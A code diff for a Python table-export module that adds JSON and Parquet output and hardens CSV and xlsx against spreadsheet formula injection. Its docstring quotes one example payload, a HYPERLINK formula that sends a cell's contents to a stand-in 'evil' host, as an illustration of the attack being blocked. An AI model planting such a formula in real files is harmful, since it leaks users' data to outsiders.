@@ -1,14 +1,40 @@
-"""Tables out of zhizao as Excel (.xlsx) and CSV, safe to open in a spreadsheet.
+"""Tables out of zhizao: one writer for CSV, Excel (xlsx), JSON and Parquet, safe to open in a spreadsheet.
 
-One writer for every front end (the dashboard's downloads, the API's ``format=xlsx|csv``, the command line's
-``--format xlsx``). A text cell that begins with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return) would
-be read by Excel, LibreOffice or WPS as a formula (CSV/formula injection, OWASP); such cells are neutralised
-with a leading apostrophe, which spreadsheets show as text. Numbers stay numbers.
+Every table a person downloads or a command writes goes through this module, so the rules below hold
+everywhere: ``zhizao kpi --format csv|xlsx|json|parquet`` and the other commands' ``--format``
+(:func:`write_table`), the REST API's ``?format=csv|xlsx`` answers (:func:`to_bytes`), the dashboard's
+downloads of every table as it is shown (:func:`display_frame`, :func:`xlsx_bytes`, :func:`csv_bytes`), the
+programme workbook and ``zhizao programme|project list --format xlsx`` (:func:`write_xlsx`), the demo's CSV
+files.
+
+- **Formula injection is neutralised in spreadsheet formats.** Ids, reasons, names and every other text come
+  from tenants' data. A spreadsheet program (Excel, LibreOffice, WPS) reads a cell that begins with ``=``,
+  ``+``, ``-``, ``@``, a tab or a carriage return (or the full-width ``＝＋－＠``) as a formula (OWASP, "CSV
+  injection"): ``=HYPERLINK("http://evil/?"&A1)`` would run when the file is opened. In CSV such a text cell
+  is written with a leading apostrophe (``'=1+1``), which spreadsheet programs show as text. In xlsx the cell
+  is a text cell (never a formula) with Excel's "quote prefix" style, so it keeps its exact value and stays
+  text when edited. Numbers are numbers (``-5`` stays a number); only text cells (and headers) are changed.
+- JSON and Parquet are for programs: values are written unchanged (JSON: one array of row objects, time
+  stamps ISO 8601, NaN as null).
+- CSV follows RFC 4180 (CRLF line ends, texts holding a line break or a comma quoted), UTF-8, with a byte
+  order mark on request (so that Excel on Chinese Windows reads Chinese text right; the dashboard's downloads
+  have one). Zoned time stamps are ISO 8601 text with their offset.
+- xlsx: a header row in bold and frozen, columns sized to their text (CJK characters count twice),
+  percentage columns on request; zoned time stamps become date-time cells of their wall time in their zone
+  (Excel has no time zones), lists of plain values are joined with ``, ``, nested structures are JSON text,
+  missing values are empty cells. Workbooks are written in openpyxl's streaming mode, so a large table does
+  not build a worksheet in memory.
 
 The dashboard exports what its tables show (translated headers, labels instead of codes, local dates):
 :func:`display_frame` turns a displayed table back into typed cells (``"55.7%"`` -> 0.557 shown as a
 percentage, ``"1,246"`` -> 1246, ``"—"`` -> empty).
 
+Example
+-------
+>>> import pandas as pd
+>>> from zhizao.export import to_bytes
+>>> to_bytes(pd.DataFrame({"reason": ["=1+1", "jam"], "seconds": [-5.0, 60.0]}), "csv").decode()
+"reason,seconds\\r\\n'=1+1,-5.0\\r\\njam,60.0\\r\\n"
 >>> neutralise("=1+1"), neutralise("-3 dB"), neutralise("OEE")
 ("'=1+1", "'-3 dB", 'OEE')
 """
@@ -16,36 +42,92 @@ percentage, ``"1,246"`` -> 1246, ``"—"`` -> empty).
 from __future__ import annotations
 
 import io
+import json
+import math
 import re
-from typing import Mapping
+from pathlib import Path
+from typing import BinaryIO, Mapping
 
+import numpy as np
 import pandas as pd
 
-#: First characters that make a spreadsheet read a cell as a formula.
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+from zhizao.errors import InputError
+from zhizao.messages import define
+
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 CSV_TYPE = "text/csv; charset=utf-8"
+#: Formats :func:`write_table` writes, and their media types.
+FORMATS = {
+    "csv": CSV_TYPE,
+    "xlsx": XLSX_TYPE,
+    "json": "application/json",
+    "parquet": "application/vnd.apache.parquet",
+}
+#: First characters that make a spreadsheet program read a cell as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+FORMULA_START = FORMULA_STARTS  # the name the dashboard's exports used
 _SHEET_BAD = re.compile(r"[\[\]:*?/\\]")
+
+UNKNOWN_FORMAT = define("export.unknown_format", "unknown table format %(format)s; one of %(formats)s")
+
+
+def is_formula_like(value) -> bool:
+    """Whether ``value`` is a text a spreadsheet program would read as a formula."""
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
 
 
 def neutralise(value):
-    """A text that a spreadsheet would read as a formula, with a leading apostrophe; anything else as is."""
-    if isinstance(value, str) and value.startswith(FORMULA_START):
-        return "'" + value
-    return value
+    """``value`` with a leading apostrophe if it is formula-like text (CSV's neutralisation); else unchanged."""
+    return "'" + value if is_formula_like(value) else value
 
 
-def _safe(df: pd.DataFrame) -> pd.DataFrame:
+def _text_columns(df: pd.DataFrame) -> list:
+    return [c for c in df.columns if df[c].dtype == object or isinstance(df[c].dtype, pd.StringDtype)]
+
+
+def _zoned_to_text(df: pd.DataFrame) -> pd.DataFrame:
+    """Zoned time stamp columns (and objects) as ISO 8601 text; a shallow copy when anything changes."""
+    out = None
+    for c in df.columns:
+        s = df[c]
+        if isinstance(s.dtype, pd.DatetimeTZDtype):
+            out = df.copy() if out is None else out
+            out[c] = [None if pd.isna(v) else v.isoformat() for v in s]
+        elif s.dtype == object and s.map(lambda v: isinstance(v, pd.Timestamp) and v.tzinfo is not None).any():
+            out = df.copy() if out is None else out
+            out[c] = [v.isoformat() if isinstance(v, pd.Timestamp) else v for v in s]
+    return df if out is None else out
+
+
+def neutralised(df: pd.DataFrame) -> pd.DataFrame:
+    """``df`` whose formula-like text cells and headers begin with an apostrophe (for CSV); a copy when
+    anything changes."""
+    cols = [c for c in _text_columns(df) if df[c].map(is_formula_like).any()]
+    if not cols and not any(is_formula_like(c) for c in df.columns):
+        return df
     out = df.copy()
-    out.columns = [neutralise(str(c)) for c in out.columns]
-    for c in out.columns:
-        if out[c].dtype == object or pd.api.types.is_string_dtype(out[c]):
-            out[c] = out[c].map(neutralise)
-        elif isinstance(out[c].dtype, pd.DatetimeTZDtype):
-            out[c] = out[c].dt.tz_localize(None)  # Excel has no time zones: local wall time
+    for c in cols:
+        out[c] = out[c].map(neutralise)
+    out.columns = [neutralise(c) for c in out.columns]
     return out
 
 
+# -- CSV
+def _csv(df: pd.DataFrame, out: BinaryIO, bom: bool) -> None:
+    # RFC 4180 line ends: a text holding a carriage return or a line feed is quoted, never splits a row
+    text = neutralised(_zoned_to_text(df)).to_csv(index=False, lineterminator="\r\n")
+    out.write((("\ufeff" if bom else "") + text).encode("utf-8"))
+
+
+def csv_bytes(df: pd.DataFrame, bom: bool = True) -> bytes:
+    """CSV in UTF-8, by default with a byte order mark (so that Excel on Chinese Windows reads the Chinese
+    text); formula-like text cells neutralised (:func:`neutralise`)."""
+    buf = io.BytesIO()
+    _csv(df, buf, bom)
+    return buf.getvalue()
+
+
+# -- xlsx
 def sheet_name(name: str, taken: set[str] | None = None) -> str:
     """A valid, unique worksheet name (at most 31 characters, no ``[]:*?/\\``)."""
     base = _SHEET_BAD.sub(" ", str(name)).strip()[:31] or "Sheet"
@@ -58,68 +140,33 @@ def sheet_name(name: str, taken: set[str] | None = None) -> str:
     return name
 
 
-def xlsx_bytes(sheets: Mapping[str, pd.DataFrame], percent_columns: Mapping[str, list] | None = None) -> bytes:
-    """An .xlsx workbook with one sheet per frame: header row bold and frozen, columns sized to their text.
-
-    Parameters
-    ----------
-    sheets : mapping of str to pandas.DataFrame
-        Sheet name -> table (names made valid and unique).
-    percent_columns : mapping of str to list, optional
-        Sheet name -> columns whose fractions are shown as percentages (0.557 -> 55.7%).
-    """
-    from openpyxl import Workbook
-    from openpyxl.styles import Font
-    from openpyxl.utils import get_column_letter
-
-    wb = Workbook()
-    wb.remove(wb.active)
-    taken: set[str] = set()
-    for name, df in sheets.items():
-        ws = wb.create_sheet(sheet_name(name, taken))
-        safe = _safe(df)
-        ws.append([str(c) for c in safe.columns])
-        for row in safe.itertuples(index=False):
-            ws.append([_cell_value(v) for v in row])
-        for cell in ws[1]:
-            cell.font = Font(bold=True)
-        ws.freeze_panes = "A2"
-        pct = set((percent_columns or {}).get(name, []))
-        for k, col in enumerate(safe.columns, 1):
-            letter = get_column_letter(k)
-            texts = [str(col)] + [str(v) for v in safe[col].head(200) if v is not None]
-            width = max(_width(t) for t in texts) if texts else 8
-            ws.column_dimensions[letter].width = min(max(8, width + 2), 60)
-            if col in pct or str(col) in pct:
-                for cell in ws[letter][1:]:
-                    cell.number_format = "0.0%"
-    buf = io.BytesIO()
-    wb.save(buf)
-    return buf.getvalue()
-
-
 def _cell_value(v):
-    """A value a worksheet cell can hold: lists of plain values joined, nested structures as JSON text."""
-    import json
-
+    """A value a worksheet cell can hold: lists of plain values joined, nested structures as JSON text, zoned
+    time stamps as their wall time, missing values None."""
     if isinstance(v, dict) or (isinstance(v, (list, tuple)) and any(isinstance(x, (dict, list, tuple)) for x in v)):
-        return neutralise(json.dumps(v, ensure_ascii=False, default=str))
-    if isinstance(v, (list, tuple)):
-        return neutralise(", ".join(map(str, v)))
+        return json.dumps(v, ensure_ascii=False, default=str)
+    if isinstance(v, (list, tuple, set)):
+        return ", ".join(map(str, v))
     if hasattr(v, "tolist") and not hasattr(v, "item"):
+        return _cell_value(v.tolist())
+    if isinstance(v, np.ndarray):
         return _cell_value(v.tolist())
     try:
         if pd.isna(v):
             return None
     except (TypeError, ValueError):
-        return neutralise(str(v))
-    if hasattr(v, "item"):
+        return str(v)
+    if isinstance(v, np.generic):
         v = v.item()
-    if isinstance(v, (str, int, float, bool)) or v is None:
+    if isinstance(v, float) and math.isinf(v):
+        return str(v)
+    if isinstance(v, (str, int, float, bool)):
         return v
+    if isinstance(v, pd.Timestamp):
+        v = v.to_pydatetime()
     if hasattr(v, "isoformat"):
         return v.replace(tzinfo=None) if getattr(v, "tzinfo", None) else v
-    return neutralise(str(v))
+    return str(v)
 
 
 def _width(text: str) -> int:
@@ -127,20 +174,132 @@ def _width(text: str) -> int:
     return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)
 
 
-def csv_bytes(df: pd.DataFrame, bom: bool = True) -> bytes:
-    """CSV in UTF-8, by default with a byte-order mark (so that Excel on Chinese Windows reads the Chinese
-    text); text cells neutralised (:func:`neutralise`)."""
-    return _safe(df).to_csv(index=False).encode("utf-8-sig" if bom else "utf-8")
+def _write_sheet(wb, name: str, df: pd.DataFrame, pct: set) -> None:
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.styles import Font
+    from openpyxl.utils import get_column_letter
+
+    ws = wb.create_sheet(title=name)
+    bold = Font(bold=True)
+
+    def cell(v, **style):
+        c = WriteOnlyCell(ws, value=None)
+        c.value = v
+        if isinstance(v, str):
+            c.data_type = "s"  # a text cell, never a formula, whatever it begins with
+            if is_formula_like(v):
+                c.quotePrefix = True
+        for k, x in style.items():
+            setattr(c, k, x)
+        return c
+
+    heads = [str(c) for c in df.columns]
+    head_rows = [[_cell_value(v) for v in row] for row in df.head(200).itertuples(index=False, name=None)]
+    for k, h in enumerate(heads):
+        texts = [h] + [str(r[k]) for r in head_rows if r[k] is not None]
+        ws.column_dimensions[get_column_letter(k + 1)].width = min(max(8, max(map(_width, texts)) + 2), 60)
+    ws.freeze_panes = "A2"
+    is_pct = [c in pct or str(c) in pct for c in df.columns]
+    ws.append([cell(h, font=bold) for h in heads])
+    for row in df.itertuples(index=False, name=None):
+        ws.append([cell(v, number_format="0.0%") if p and isinstance(v, (int, float)) and not isinstance(v, bool)
+                   else cell(v) for v, p in zip(map(_cell_value, row), is_pct)])
+
+
+def xlsx_bytes(sheets: Mapping[str, pd.DataFrame], percent_columns: Mapping[str, list] | None = None) -> bytes:
+    """An .xlsx workbook with one sheet per frame: header row bold and frozen, columns sized to their text,
+    formula-like text cells kept as text (see the module docstring).
+
+    Parameters
+    ----------
+    sheets : mapping of str to pandas.DataFrame
+        Sheet name -> table (names made valid and unique; the index is not written).
+    percent_columns : mapping of str to list, optional
+        Sheet name -> columns whose fractions are shown as percentages (0.557 -> 55.7%).
+    """
+    from openpyxl import Workbook
+
+    wb = Workbook(write_only=True)
+    taken: set[str] = set()
+    for name, df in sheets.items():
+        _write_sheet(wb, sheet_name(name, taken), df, set((percent_columns or {}).get(name, [])))
+    if not sheets:
+        wb.create_sheet("Sheet")
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
 
 
 def write_xlsx(sheets: Mapping[str, pd.DataFrame], path, percent_columns=None):
-    """Write :func:`xlsx_bytes` to ``path``."""
-    from pathlib import Path
-
+    """Write :func:`xlsx_bytes` to ``path``; returns ``path``."""
     Path(path).write_bytes(xlsx_bytes(sheets, percent_columns))
     return path
 
 
+# -- JSON
+def _json(df: pd.DataFrame, out: BinaryIO) -> None:
+    rows = json.loads(df.to_json(orient="records", date_format="iso", default_handler=str))
+    out.write((json.dumps(rows, ensure_ascii=False, indent=1) + "\n").encode("utf-8"))
+
+
+# -- one table, any format
+def write_table(df: pd.DataFrame, fmt: str, dest: str | Path | BinaryIO, *, sheet: str = "zhizao",
+                bom: bool = False) -> None:
+    """Write a table as ``fmt`` to ``dest``.
+
+    Parameters
+    ----------
+    df : pandas.DataFrame
+        The table (its index is not written).
+    fmt : {'csv', 'xlsx', 'json', 'parquet'}
+    dest : path or binary file
+        Where to write.
+    sheet : str
+        Name of the xlsx sheet (at most 31 characters).
+    bom : bool
+        Begin a CSV with a UTF-8 byte order mark (so that Excel reads Chinese text right).
+
+    Raises
+    ------
+    zhizao.errors.InputError
+        An unknown format.
+
+    Notes
+    -----
+    CSV and xlsx neutralise formula-like text cells (see the module docstring); JSON and Parquet keep every
+    value as it is.
+    """
+    if fmt not in FORMATS:
+        raise InputError(UNKNOWN_FORMAT, format=repr(fmt), formats=list(FORMATS))
+    if isinstance(dest, (str, Path)):
+        with open(dest, "wb") as f:
+            write_table(df, fmt, f, sheet=sheet, bom=bom)
+        return
+    if fmt == "csv":
+        _csv(df, dest, bom)
+    elif fmt == "xlsx":
+        dest.write(xlsx_bytes({sheet: df}))
+    elif fmt == "json":
+        _json(df, dest)
+    else:
+        df.to_parquet(dest, index=False)
+
+
+def to_bytes(df: pd.DataFrame, fmt: str, **kw) -> bytes:
+    """The bytes :func:`write_table` writes (for HTTP answers and downloads)."""
+    buf = io.BytesIO()
+    write_table(df, fmt, buf, **kw)
+    return buf.getvalue()
+
+
+def media_type(fmt: str) -> str:
+    """The media type of a format of :data:`FORMATS`."""
+    if fmt not in FORMATS:
+        raise InputError(UNKNOWN_FORMAT, format=repr(fmt), formats=list(FORMATS))
+    return FORMATS[fmt]
+
+
+# -- the dashboard's tables as shown
 _PCT = re.compile(r"^([+-]?\d[\d,]*(?:\.\d+)?)%$")
 _NUM = re.compile(r"^[+-]?\d[\d,]*(?:\.\d+)?$")
 
@@ -187,5 +346,6 @@ def display_frame(table: dict, null: str = "\u2014") -> tuple[pd.DataFrame, list
     return df[keep], [cols[k] for k in sorted(pct) if cols[k] in keep]
 
 
-__all__ = ["neutralise", "xlsx_bytes", "csv_bytes", "write_xlsx", "display_frame", "sheet_name", "XLSX_TYPE",
-           "CSV_TYPE", "FORMULA_START"]
+__all__ = ["FORMATS", "FORMULA_STARTS", "FORMULA_START", "XLSX_TYPE", "CSV_TYPE", "write_table", "to_bytes",
+           "media_type", "neutralise", "neutralised", "is_formula_like", "csv_bytes", "xlsx_bytes", "write_xlsx",
+           "display_frame", "sheet_name"]
